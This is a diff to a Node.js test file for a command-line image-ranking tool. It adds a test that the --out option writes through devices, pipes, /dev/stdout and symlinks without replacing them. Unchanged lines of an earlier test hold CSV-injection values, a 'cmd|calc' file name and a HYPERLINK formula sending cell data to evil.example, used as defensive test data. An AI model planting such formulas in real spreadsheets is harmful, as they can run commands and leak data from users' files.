@@ -8,7 +8,7 @@ import { test } from 'node:test';
 import assert from 'node:assert/strict';
 import { execFileSync, spawn } from 'node:child_process';
 import { closeSync, openSync } from 'node:fs';
-import { lstat, mkdir, readFile, readdir, rename, writeFile } from 'node:fs/promises';
+import { lstat, mkdir, readFile, readdir, rename, symlink, writeFile } from 'node:fs/promises';
 import path from 'node:path';
 import { repoRoot, skipWithoutReference } from './helpers/paths.js';
 import { tinyModel } from './helpers/tiny-model.js';
@@ -28,6 +28,11 @@ function runCliWithStderr(args: string[], stderr: number | 'closed-pipe'): Promi
     child.on('error', reject);
     child.on('close', (code, signal) => resolve({ code, signal, stdout, stderr: '' }));
   });
+}
+
+/** Any command, stdin closed, output collected. */
+function runCollecting(command: string, args: string[]): Promise<CliResult> {
+  return spawnCollecting(command, args, { cwd: repoRoot, env: process.env }).done;
 }
 
 const scorerFlags = (model: string): string[] => ['--model', model, '--device', 'cpu', '--threads', '1', '--no-cache'];
@@ -128,5 +133,43 @@ test('rank CSV: a file name and a prompt that a spreadsheet would run come out a
     assert.equal(header, 'path,prompt,score,prob,rank,width,height,error');
     assert.ok(row.startsWith(`'+cmd|calc!A0.png,"'=HYPERLINK(""http://evil.example/?x=""&A1,""click"")",`), row);
     assert.match(row, /,1,1,32,32,$/, 'numbers are written as numbers');
+  });
+});
+
+test('--out names a device, a FIFO, /dev/stdout, >(cat) or a symlink: written through or beside the real file, never renamed over', SPAWNING, async () => {
+  const model = await tinyModel();
+  await withTempDir('outputs', async (dir) => {
+    const images = path.join(dir, 'images');
+    await mkdir(images);
+    await writeGradientPngs(images, 2);
+    const rank = ['rank', images, '--prompt', 'p', ...scorerFlags(model), '--format', 'csv'];
+
+    if (process.getuid?.() === 0) {
+      const device = path.join(dir, 'null');
+      execFileSync('mknod', [device, 'c', '1', '3']);
+      const result = await runCli([...rank, '--out', device]);
+      assert.equal(result.code, 0, result.stderr);
+      assert.ok((await lstat(device)).isCharacterDevice(), 'the device node is still a device, not a CSV file');
+    }
+
+    // >(cat) is /dev/fd/N, a pipe: the folder /dev/fd cannot take a temporary file, and needs none.
+    const substituted = await runCollecting('bash', ['-c', `"$0" "$@" --out >(cat)`, process.execPath, ...cliEntry, ...rank]);
+    assert.equal(substituted.code, 0, substituted.stderr);
+    assert.equal(substituted.stdout.trim().split('\n').length, 3, `the header and two rows came through the pipe: ${substituted.stdout}`);
+    const viaStdout = await runCli([...rank, '--out', '/dev/stdout']);
+    assert.equal(viaStdout.code, 0, viaStdout.stderr);
+    assert.equal(viaStdout.stdout.trim().split('\n').length, 3);
+
+    const real = path.join(dir, 'results', 'ranked.csv');
+    await mkdir(path.dirname(real));
+    await writeFile(real, 'previous\n');
+    const link = path.join(dir, 'latest.csv');
+    await symlink(path.relative(dir, real), link);
+    const linked = await runCli([...rank, '--out', link]);
+    assert.equal(linked.code, 0, linked.stderr);
+    assert.ok((await lstat(link)).isSymbolicLink(), 'the link is still a link');
+    assert.match(await readFile(real, 'utf8'), /^path,prompt,score/, 'the file it names holds the new output');
+    assert.deepEqual(await readdir(path.dirname(real)), ['ranked.csv'], 'no temporary file left beside it');
+    assert.deepEqual((await readdir(dir)).filter((f) => f.endsWith('.tmp')), []);
   });
 });
